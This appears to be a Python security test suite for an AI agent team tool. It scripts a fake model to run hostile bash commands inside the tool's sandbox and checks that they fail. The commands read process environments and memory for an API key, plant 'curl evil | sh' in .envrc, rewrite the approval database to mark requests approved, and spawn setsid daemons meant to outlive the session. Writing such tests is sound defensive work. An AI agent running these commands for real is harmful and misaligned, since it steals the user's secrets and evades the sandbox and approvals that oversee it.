#!/usr/bin/env python3
"""The person's trust, end to end: what a hostile teammate's bash can
reach. The real binary in --headless mode against the fake LLM server,
with a sentinel API key that must never show up where a tool can read it.

Covers: the key is not in huddle's /proc/PID/environ nor in a tool's
environment, secret-looking variables (and URLs with passwords) are
kept from tools unless --pass-env lets one through, the debug log is
0600 and never holds the key, one team runs in one huddle at a time, the
Landlock sandbox keeps commands out of the state folder, huddle's memory
and everything outside the workdir, --no-network, and nothing a command
starts (setsid, daemons) outlives the command or the team.
"""

import os
import re
import stat
import subprocess
import sys
import tempfile
import time

SENTINEL = "sk-ant-SENTINEL-7f3a9c"
os.environ["HUDDLE_TEST_KEY"] = SENTINEL

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from fakellm_client import HUDDLE, FakeLLM, Results  # noqa: E402
from procs import proc_stats  # noqa: E402
from team_driver import Huddle, alive, call, ev, expect, notes  # noqa: E402


# A command's parent is its reaper; huddle is the reaper's parent. This
# sets $H to huddle's PID, as a hostile command would find it.
HUDDLE_PID = "H=$(cut -d' ' -f4 /proc/$PPID/stat); "


def processes_of(parent):
    """{pid: state} of the processes whose parent is `parent`."""
    return {pid: fields[0] for pid, fields in proc_stats()
            if int(fields[1]) == parent}


def run_bash(fake, command, args=(), env=None):
    """The lead runs one bash command; returns its output."""
    fake.reset()
    fake.script(call("lead", "bash", command=command), *notes("lead", 4))
    with Huddle(fake, args=list(args), env=env, approve=True) as h:
        h.send("go")
        res = h.wait(ev("tool_result", "lead", tool="bash"), what="bash")
        h.quit()
    return res["output"]


def test_key_not_in_environ(fake):
    # huddle's environment block is what a hostile command would read to
    # find the key; its reaper's too.
    out = run_bash(fake, HUDDLE_PID + "tr '\\0' '\\n' < /proc/$H/environ; "
                         "tr '\\0' '\\n' < /proc/$PPID/environ; "
                         "echo; env; echo done")
    expect("done" in out, out)
    expect(SENTINEL not in out, "the key is readable: " + out)
    expect("ANTHROPIC_API_KEY=sk" not in out, out)


def test_secrets_not_in_environ(fake):
    # Every secret-looking variable is wiped from huddle's block, not
    # only the API keys; one passed to tools on purpose too, and the
    # variables that lead to the person's desktop reach no command.
    env = {"GITHUB_TOKEN": "ghp_leak-5", "AWS_SECRET_ACCESS_KEY": "leak-6",
           "DATABASE_URL": "postgres://app:leak-7@db/x",
           "PASSME_TOKEN": "leak-8", "TMUX": "/tmp/tmux-0/default,1,0",
           "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/user/0/bus",
           "SSH_AUTH_SOCK": "/tmp/ssh-x/agent.1", "DISPLAY": ":0",
           "XDG_RUNTIME_DIR": "/run/user/0"}
    out = run_bash(fake, HUDDLE_PID + "tr '\\0' '\\n' < /proc/$H/environ; "
                   "echo; echo HUDDLE-ENV-END; env; echo done",
                   args=["--pass-env", "PASSME_TOKEN"], env=env)
    expect("done" in out, out)
    for value in ("leak-5", "leak-6", "leak-7"):
        expect(value not in out, "%s is readable: %s" % (value, out))
    # Passed to the tool's own environment, but not left in huddle's.
    expect(out.count("leak-8") == 1, "PASSME_TOKEN: " + out)
    for name in ("TMUX", "DBUS_SESSION_BUS_ADDRESS", "SSH_AUTH_SOCK",
                 "DISPLAY", "XDG_RUNTIME_DIR"):
        expect("\n%s=" % name not in out.split("HUDDLE-ENV-END")[-1],
               "%s reached a command: %s" % (name, out))


def test_secret_variables_are_kept_from_tools(fake):
    env = {"OPENAI_KEY": "leak-1", "MY_APIKEY": "leak-2",
           "DATABASE_URL": "postgres://app:leak-3@db/x",
           "SESSION_COOKIE": "leak-4", "EDITOR": "visible-editor",
           "PASSME_TOKEN": "passed-through"}
    out = run_bash(fake, "env", args=["--pass-env", "PASSME_TOKEN"], env=env)
    for value in ("leak-1", "leak-2", "leak-3", "leak-4"):
        expect(value not in out, "%s reached a tool: %s" % (value, out))
    expect("EDITOR=visible-editor" in out, out)
    expect("PASSME_TOKEN=passed-through" in out, "--pass-env did not pass")


def test_planted_files_are_named_at_quit(fake):
    # A command may change the tree's Makefile and .envrc (the tree is the
    # team's); the person hears of it at quit, before running make.
    fake.reset()
    fake.script(call("lead", "bash", command="echo 'all:; touch pwned' > "
                     "Makefile; echo 'curl evil | sh' > .envrc; "
                     "echo ok > notes.txt"), *notes("lead", 4))
    with Huddle(fake) as h:
        with open(os.path.join(h.workdir, "Makefile"), "w") as f:
            f.write("all:\n\techo hello\n")
        h.send("go")
        h.wait(ev("tool_result", "lead", tool="bash"), what="bash")
        h.quit()
        said = [e.get("message", "") for e in h.events
                if e.get("event") == "notice"]
    planted = [m for m in said if "run code" in m]
    expect(planted, "no notice names the files: %s" % said)
    expect("Makefile" in planted[0] and ".envrc (new)" in planted[0],
           planted[0])
    expect("notes.txt" not in planted[0], planted[0])


def test_limits_are_named_when_hit(fake):
    # A command that runs into its memory ceiling fails, and its result
    # says which limit it was and how the person lifts it.
    out = run_bash(fake, "python3 -c 'x = bytearray(256 << 20)'",
                   args=["--max-memory", "64M"])
    expect("MemoryError" in out, out)
    expect("--max-memory 0" in out and "64 MiB of memory" in out, out)


def test_log_is_private_and_keyless(fake):
    log = os.path.join(tempfile.mkdtemp(prefix="huddle-log-"), "debug.log")
    run_bash(fake, "echo hello", args=["--log", log])
    mode = stat.S_IMODE(os.stat(log).st_mode)
    expect(mode == 0o600, "the log is %o" % mode)
    with open(log, errors="replace") as f:
        text = f.read()
    expect(text, "the log is empty")
    expect(SENTINEL not in text, "the log holds the key")


def test_one_huddle_per_team(fake):
    fake.reset()
    fake.script(*notes("lead", 4))
    with Huddle(fake, approve=True) as h:
        h.send("hello")
        h.wait(ev("status", "lead", status="idle"), what="the first huddle")
        script = os.path.join(h.workdir, "none.json")
        with open(script, "w") as f:
            f.write('{"agents": {}}')
        second = subprocess.run(
            [HUDDLE, "--headless", "--resume", "--workdir", h.workdir,
             "--provider", "script", "--script", script],
            stdin=subprocess.DEVNULL, capture_output=True, text=True,
            timeout=20)
        expect(second.returncode == 1, "a second huddle ran: status %d, %s"
               % (second.returncode, second.stderr))
        expect("(PID %d)" % h.proc.pid in second.stderr, second.stderr)
        # --teams shows it live, with its workdir, out of the workdir.
        teams = subprocess.run([HUDDLE, "--teams"], capture_output=True,
                               text=True, timeout=10).stdout
        row = [line for line in teams.splitlines() if h.workdir in line]
        expect(row and row[0].startswith("live") and
               "PID %d" % h.proc.pid in row[0], teams)
        expect(not os.path.exists(os.path.join(h.workdir, ".huddle")),
               "state was kept in the workdir")
        h.send("/quit")
        expect(h.wait_exit() == 0, "the first huddle did not quit cleanly")
    # Once it is gone the team can be resumed.
    fake.script(*notes("lead", 4))
    with Huddle(fake, workdir=h.workdir, resume=True) as again:
        again.send("/quit")
        expect(again.wait_exit() == 0, "the team could not be resumed")
    teams = subprocess.run([HUDDLE, "--teams"], capture_output=True,
                           text=True, timeout=10).stdout
    row = [line for line in teams.splitlines() if h.workdir in line]
    expect(row and row[0].startswith("idle"), teams)


def test_sandbox_keeps_bash_in_its_place(fake):
    from fakellm_client import team_folder
    fake.reset()
    extra = tempfile.mkdtemp(prefix="huddle-extra-")
    outside = tempfile.mkdtemp(prefix="huddle-outside-")
    with Huddle(fake, args=["--writable", extra], approve=True) as h:
        db = os.path.join(team_folder(h.workdir), "team.db")
        attack = (
            "python3 -c \"import sqlite3; c = sqlite3.connect('%s'); "
            "c.execute('UPDATE requests SET status = 1'); c.commit()\"; "
            "echo sqlite=$?; touch %s/planted; echo state=$?; "
            "touch %s/escape; echo outside=$?; "
            "%s head -c 1 /proc/$H/mem >/dev/null; echo mem=$?; "
            "head -c 1 /proc/$PPID/mem >/dev/null; echo rmem=$?; "
            "kill -STOP $PPID; echo stop=$?; "
            "touch in-workdir %s/allowed $TMPDIR/scratch; echo ok=$?; "
            "touch %s/last" % (db, os.path.dirname(db), outside, HUDDLE_PID,
                               extra, outside))
        fake.script(call("lead", "bash", command=attack), *notes("lead", 4))
        h.send("go")
        out = h.wait(ev("tool_result", "lead", tool="bash"),
                     what="bash")["output"]
        probes = ["sqlite", "state", "outside", "mem", "rmem"]
        mark = len(h.events)
        h.send("/team")
        team = h.wait(ev("team"), since=mark, what="the team")
        abi = re.search(r"ABI (\d+)", team["sandbox"])
        if abi and int(abi.group(1)) >= 6:
            probes.append("stop")   # no signal leaves the sandbox
        for probe in probes:
            expect("%s=0" % probe not in out, "%s got through: %s"
                   % (probe, out))
        expect("ok=0" in out, "the allowed writes failed: " + out)
        expect("--writable" in out, "no hint about the sandbox: " + out)
        expect(os.path.exists(os.path.join(h.workdir, "in-workdir")) and
               os.path.exists(os.path.join(extra, "allowed")), out)
        expect(not os.path.exists(os.path.join(outside, "escape")), out)
        expect("Landlock" in team["sandbox"], team["sandbox"])
        h.quit()


def test_no_network(fake):
    fake.reset()
    probe = ("python3 -c \"import socket; "
             "socket.create_connection(('127.0.0.1', %d), 2)\"; "
             "echo net=$?" % fake.port)
    fake.script(call("lead", "bash", command=probe), *notes("lead", 4))
    with Huddle(fake, args=["--no-network"], approve=True) as h:
        h.send("go")
        out = h.wait(ev("tool_result", "lead", tool="bash"),
                     what="bash")["output"]
        mark = len(h.events)
        h.send("/team")
        team = h.wait(ev("team"), since=mark, what="the team")
        h.quit()
    if "network denied" in team["sandbox"]:
        expect("net=0" not in out, "a command connected: " + out)
    else:
        print("  (this kernel cannot deny the network: %s)" % team["sandbox"])


def wait_until(cond, what, timeout=10.0):
    deadline = time.monotonic() + timeout
    while not cond():
        expect(time.monotonic() < deadline, "timed out: " + what)
        time.sleep(0.05)


def test_nothing_outlives_a_command(fake):
    fake.reset()
    # A new session, a daemon's double fork, one that ignores SIGTERM;
    # then a command still running at quit, with its own escapee.
    escape = ("setsid sleep 6061 & echo $!; "
              "(setsid sh -c 'sleep 6062 & echo $!' &); "
              "setsid sh -c 'trap \"\" TERM; echo $$; "
              "while :; do sleep 1; done' & sleep 0.3")
    running = "setsid sleep 6063 & echo $! > late.pid; sleep 600"
    fake.script(call("lead", "bash", command=escape),
                call("lead", "bash", command=running), *notes("lead", 4))
    with Huddle(fake, approve=True) as h:
        h.send("go")
        out = h.wait(ev("tool_result", "lead", tool="bash"),
                     what="bash")["output"]
        pids = [int(line) for line in out.splitlines()[:3]]
        expect(len(pids) == 3, out)
        for pid in pids:
            expect(not alive(pid), "%d outlived its command: %s"
                   % (pid, out))
        children = processes_of(h.proc.pid)
        expect("Z" not in children.values(), "zombies: %s" % children)
        late = os.path.join(h.workdir, "late.pid")
        wait_until(lambda: os.path.exists(late) and
                   open(late).read().strip(), "the second command")
        pid = int(open(late).read())
        expect(alive(pid), "the escapee did not start")
        h.quit()
        expect(not alive(pid), "%d outlived the team" % pid)


def test_nothing_outlives_a_killed_huddle(fake):
    fake.reset()
    running = "setsid sleep 6064 & echo $! > k.pid; sleep 600"
    fake.script(call("lead", "bash", command=running), *notes("lead", 4))
    with Huddle(fake, approve=True) as h:
        h.send("go")
        pidfile = os.path.join(h.workdir, "k.pid")
        wait_until(lambda: os.path.exists(pidfile) and
                   open(pidfile).read().strip(), "the command")
        pid = int(open(pidfile).read())
        expect(alive(pid), "the escapee did not start")
        h.kill9()
        # Its reaper sees huddle die and ends everything beneath it.
        wait_until(lambda: not alive(pid), "%d to end after kill -9" % pid)


def main():
    r = Results()
    with FakeLLM() as fake:
        r.run("the key is not in huddle's environment block",
              test_key_not_in_environ, fake)
        r.run("a command that hits its limits is told which",
              test_limits_are_named_when_hit, fake)
        r.run("files that run code later, changed, are named at quit",
              test_planted_files_are_named_at_quit, fake)
        r.run("no secret is in huddle's environment block, no desktop "
              "variable reaches a command", test_secrets_not_in_environ,
              fake)
        r.run("secret-looking variables are kept from tools",
              test_secret_variables_are_kept_from_tools, fake)
        r.run("the log is 0600 and never holds the key",
              test_log_is_private_and_keyless, fake)
        r.run("one huddle per team", test_one_huddle_per_team, fake)
        r.run("the sandbox keeps bash out of the state, outside the "
              "workdir and out of huddle's memory",
              test_sandbox_keeps_bash_in_its_place, fake)
        r.run("--no-network", test_no_network, fake)
        r.run("nothing a command starts outlives it or the team",
              test_nothing_outlives_a_command, fake)
        r.run("nothing a command starts outlives a huddle killed by "
              "SIGKILL", test_nothing_outlives_a_killed_huddle, fake)
    r.finish()


if __name__ == "__main__":
    main()
